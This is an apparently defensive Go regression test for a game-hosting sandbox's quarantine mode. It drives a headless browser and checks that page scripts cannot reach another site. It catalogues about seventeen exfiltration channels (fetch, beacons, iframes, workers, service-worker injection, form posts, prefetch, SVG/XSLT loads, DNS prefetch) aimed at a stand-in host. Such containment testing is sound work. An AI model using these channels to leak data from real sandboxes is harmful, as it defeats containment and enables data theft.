package play

import (
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"sandlot/internal/testkit/testenv"
)

// escapes are ways by which the script of a page reaches another site, each under the name that it says there.
var escapes = map[string]string{
	"fetch":         `fetch(to('fetch'), {mode: 'no-cors'})`,
	"beacon":        `navigator.sendBeacon(to('beacon'), 'x')`,
	"picture":       `new Image().src = to('picture')`,
	"blob-frame":    `frame(URL.createObjectURL(new Blob([leak('blob-frame')], {type: 'text/html'})))`,
	"data-frame":    `frame('data:text/html,' + encodeURIComponent(leak('data-frame')))`,
	"srcdoc-frame":  `add('iframe', {srcdoc: leak('srcdoc-frame')})`,
	"script-frame":  `frame('javascript:' + JSON.stringify(leak('script-frame')))`,
	"own-frame":     `frame('/%zz').onload = e => e.target.contentWindow.fetch(to('own-frame'), {mode: 'no-cors'})`,
	"missing-frame": `frame('/none').onload = e => e.target.contentWindow.fetch(to('missing-frame'), {mode: 'no-cors'})`,
	"popup":         `(w => { w.document.open(); w.document.write(leak('popup')); w.document.close() })(open('about:blank'))`,
	"worker":        `new Worker(URL.createObjectURL(new Blob([fetches('worker')])))`,
	"data-worker":   `new Worker('data:text/javascript,' + encodeURIComponent(fetches('data-worker')))`,
	"file-worker":   `new Worker('/worker.js', {name: to('file-worker')})`,
	"shared-worker": `new SharedWorker('/worker.js', to('shared-worker'))`,
	"prefetch":      `add('link', {rel: 'prefetch', href: to('prefetch')})`,
	"form":          `(f => f.submit())(add('form', {action: to('form'), method: 'post', target: frame('about:blank').name = 'f'}))`,
	"ping":          `add('a', {href: '#', ping: to('ping')}).click()`,
}

const escapesHead = `<!doctype html><title>Game</title><body><script>
const to = way => 'http://' + way + '.elsewhere.test:PORT/' + way
const add = (name, all) => document.body.appendChild(Object.assign(document.createElement(name), all))
const frame = src => add('iframe', {src})
const fetches = way => 'fetch("' + to(way) + '", {mode: "no-cors"})'
const leak = way => '<!doctype html><script>' + fetches(way) + '<' + '/script>'
`

// elsewhere is another site. It knows by which ways a page reached it.
type elsewhere struct {
	port string

	mu   sync.Mutex
	came map[string]bool
}

func newElsewhere(t *testing.T) *elsewhere {
	e := &elsewhere{came: map[string]bool{}}
	srv := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		defer e.mu.Unlock()
		e.came[r.URL.Path[1:]] = true
	}))
	t.Cleanup(srv.Close)
	e.port = strconv.Itoa(srv.Listener.Addr().(*net.TCPAddr).Port)
	return e
}

// reached lists the ways by which a page reached the site.
func (e *elsewhere) reached() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return slices.Sorted(maps.Keys(e.came))
}

// escapesHost serves a project with every escape: those of its first page, and those that need a page of their own.
func escapesHost(t *testing.T, e *elsewhere, quarantine bool) *stage {
	t.Helper()
	s := newStage(t, false, func(c *Config) { c.Quarantine = quarantine })
	to := func(way string) string { return "http://" + way + ".elsewhere.test:" + e.port + "/" + way }
	page := strings.ReplaceAll(escapesHead, "PORT", e.port)
	for _, way := range slices.Sorted(maps.Keys(escapes)) {
		page += "try { " + escapes[way] + " } catch {}\n"
	}
	s.put(gameID, s.file("index.html", page+"</script>"),
		s.file("worker.js", `fetch(self.name, {mode: 'no-cors'})`),
		s.file("sw.js", `onactivate = e => e.waitUntil(clients.claim()); oninstall = () => skipWaiting()
onfetch = e => { if (e.request.url.endsWith('/login.html')) e.respondWith(new Response('<script>fetch("`+to("service-worker")+`", {mode: "no-cors"})</script>', {headers: {'Content-Type': 'text/html'}})) }`),
		// A browser may take the script of a worker from its cache, where an ordinary fetch has put it.
		s.file("register.html", `<!doctype html><title>-</title><script>
const ready = () => document.title = 'ready'
fetch('/sw.js').then(() => navigator.serviceWorker.register('/sw.js', {updateViaCache: 'all'})).then(r => {
  const w = r.installing || r.waiting || r.active
  if (w.state == 'activated' || w.state == 'redundant') ready()
  w.onstatechange = () => { if (w.state == 'activated' || w.state == 'redundant') ready() }
}, ready)</script>`),
		s.file("login.html", `<!doctype html><title>Login</title>`),
		s.file("a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><image href="`+to("svg")+`" width="9" height="9"/></svg>`),
		s.file("a.xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="a.xsl"?><a/>`),
		s.file("a.xsl", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><img src="`+to("xslt")+`"/></body></html></xsl:template></xsl:stylesheet>`),
		s.file("leave.html", `<!doctype html><script>location = '`+to("tab")+`'</script>`))
	return s
}

// TestRegressionM22NothingLeavesQuarantine: what reaches another site without quarantine does not with it, by the responses that a page makes
// itself, the documents that it opens, and the tab's own navigation.
func TestRegressionM22NothingLeavesQuarantine(t *testing.T) {
	t.Parallel()
	free, held := newElsewhere(t), newElsewhere(t)
	ctx := testenv.Engine(t, chromedp.Flag("host-resolver-rules", "MAP *.elsewhere.test 127.0.0.1"), chromedp.Flag("disable-popup-blocking", true))
	pages := []struct{ file, way string }{{"login.html", "service-worker"}, {"a.svg", "svg"}, {"a.xml", "xslt"}, {"leave.html", "tab"}}
	for _, c := range []struct {
		to         *elsewhere
		quarantine bool
	}{{free, false}, {held, true}} {
		home := escapesHost(t, c.to, c.quarantine).url(gameID)
		tried := func(way string, n int) {
			if c.quarantine {
				// The document may give way to another one meanwhile, such as the browser's own after a navigation that it blocked.
				testenv.Eventually(t, 30*time.Second, way+" had its time", func() bool {
					over, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`performance.now() > 300`))
					return err == nil && over
				})
				return
			}
			testenv.Eventually(t, 30*time.Second, way+" is open without quarantine", func() bool { return len(c.to.reached()) >= n })
		}
		run(t, ctx, chromedp.Navigate(home))
		tried("every way of the page", len(escapes))
		run(t, ctx, chromedp.Navigate(home+"register.html"))
		run(t, ctx, chromedp.Poll[bool](`document.title === 'ready'`))
		for n, p := range pages {
			run(t, ctx, chromedp.Navigate(home+p.file))
			tried(p.way, len(escapes)+n+1)
		}
	}
	if got := held.reached(); len(got) > 0 {
		t.Errorf("out of quarantine by %v", got)
	}
}

// TestRegressionM24NoHostIsLookedUpInQuarantine: a page that opens connections ahead puts text into the names of their hosts. The browser's log of its
// network names each host that it looks up.
func TestRegressionM24NoHostIsLookedUpInQuarantine(t *testing.T) {
	t.Parallel()
	netLog := filepath.Join(t.TempDir(), "net.json")
	ctx := testenv.Browser(t, chromedp.Flag("log-net-log", netLog))
	logged := func(text string) bool {
		log, err := os.ReadFile(netLog)
		return err == nil && strings.Contains(string(log), text)
	}
	for _, quarantine := range []bool{false, true} {
		name := strconv.FormatBool(quarantine)
		s := newStage(t, false, func(c *Config) { c.Quarantine = quarantine })
		s.put(gameID, s.file("index.html", `<!doctype html><title>Game</title><link rel="preconnect" href="http://preconnect-`+name+`.elsewhere.test/">
<link rel="dns-prefetch" href="http://name-`+name+`.elsewhere.test/"><script>onload = () => setInterval(() => fetch('/later-`+name+`'), 200)</script>`))
		run(t, ctx, chromedp.Navigate(s.url(gameID)))
		testenv.Eventually(t, 30*time.Second, "the log has what the page asked for later", func() bool { return logged("later-" + name) })
		if !quarantine {
			testenv.Eventually(t, 30*time.Second, "both hosts are looked up without quarantine", func() bool { return logged("preconnect-false.") && logged("name-false.") })
		}
	}
	if logged("preconnect-true.") || logged("name-true.") {
		t.Error("a host is looked up in quarantine")
	}
}
